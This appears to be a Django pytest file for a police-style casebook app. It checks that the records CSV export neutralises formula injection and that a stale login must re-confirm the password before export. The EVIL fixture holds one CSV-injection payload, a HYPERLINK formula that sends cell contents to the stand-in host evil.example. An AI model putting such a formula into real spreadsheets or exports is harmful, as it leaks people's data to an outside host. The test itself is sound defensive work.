"""The records CSV export: no cell is a formula (OWASP CSV injection, issue #11 item 6) and a
login an hour old confirms the password before anything is exported (SECURITY.md S6)."""

import csv
import io
from datetime import UTC, date, datetime, timedelta
from urllib.parse import parse_qs, urlsplit

import pytest
import time_machine
from django.test import Client

from casebook.accounts.roles import Role
from casebook.accounts.tests.stepup import REAUTH, age_login, confirm
from casebook.audit.models import AuditEvent
from casebook.intel import services
from casebook.subjects.models import Category
from casebook.subjects.services import subject_create
from casebook.subjects.tests.conftest import make_id
from conftest import login

START = datetime(2026, 11, 30, 1, 0, tzinfo=UTC)
EXPORT = "/records/export.csv?purpose=%E4%B8%93%E9%A1%B9%E5%B7%A5%E4%BD%9C"  # 专项工作
EVIL = '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")'


@pytest.fixture
def leader(org, make_user):
    return make_user(Role.STATION_LEADER, org["a"], real_name="所长甲")


@pytest.fixture
def evil_record(org, leader):
    person = subject_create(
        actor=leader,
        kind="person",
        category=Category.objects.get(code="drug_involved"),
        name="王吸",
        station=org["a"],
        legal_basis_ref="城公〔2026〕2号",
        approved_by=leader,
        approved_on=date(2026, 1, 5),
        officers=[leader],
        detail={"data_subject_category": "suspect", "id_number": make_id(seq="311")},
    )
    return services.record_create(
        actor=leader,
        subjects=[person],
        method="collection",
        channel="community_police",
        content=EVIL,
        address="+86 138 0000 0000 @楼下",
        occurred_at=START - timedelta(hours=2),
        source_evaluation="B",
        info_assessment="2",
    )


def _rows(response) -> list[list[str]]:
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))


@pytest.mark.django_db
def test_records_csv_neutralises_formulas(leader, evil_record):
    with time_machine.travel(START, tick=False):
        response = login(Client(), leader).get(EXPORT)
    assert response.status_code == 200
    row = next(r for r in _rows(response) if r and r[0] == str(evil_record.pk))
    assert row[0] == str(evil_record.pk)  # the number stays a number
    assert row[-1] == "'" + EVIL  # what was observed
    assert row[-2] == "'+86 138 0000 0000 @楼下"  # the place
    assert not any(cell.startswith(("=", "+", "-", "@")) for r in _rows(response) for cell in r)


@pytest.mark.django_db
def test_stale_login_confirms_before_the_records_export(leader, evil_record):
    with time_machine.travel(START, tick=False) as clock:
        client = login(Client(), leader)
        age_login(client, clock, 60)
        stale = client.get(EXPORT)
        assert stale.status_code == 302 and stale["Location"].startswith(REAUTH)
        assert parse_qs(urlsplit(stale["Location"]).query)["next"] == [EXPORT]
        assert "text/csv" not in stale.get("Content-Type", "")
        assert not AuditEvent.objects.filter(action="record.export").exists()

        wrong = client.post(stale["Location"], {"password": "not the password", "token": ""})
        assert wrong.status_code == 200  # the prompt again, nothing exported
        assert not AuditEvent.objects.filter(action="record.export").exists()

        back = confirm(client, leader, stale["Location"])
        assert back.status_code == 302 and back["Location"] == EXPORT
        response = client.get(back["Location"])
    assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
    assert any(r and r[0] == str(evil_record.pk) for r in _rows(response))
    assert AuditEvent.objects.filter(action="record.export", actor_id=leader.pk).count() == 1
    assert AuditEvent.objects.filter(action="auth.step_up", outcome="success").count() == 1


@pytest.mark.django_db
def test_recent_login_exports_without_a_prompt_and_the_officer_still_may_not(
    org, make_user, leader, evil_record
):
    with time_machine.travel(START, tick=False) as clock:
        client = login(Client(), leader)
        clock.shift(timedelta(minutes=4))  # within the 5-minute step-up window
        assert client.get(EXPORT).status_code == 200
        officer = login(Client(), make_user(Role.TRACKING_OFFICER, org["a"]))
        assert officer.get(EXPORT).status_code == 403
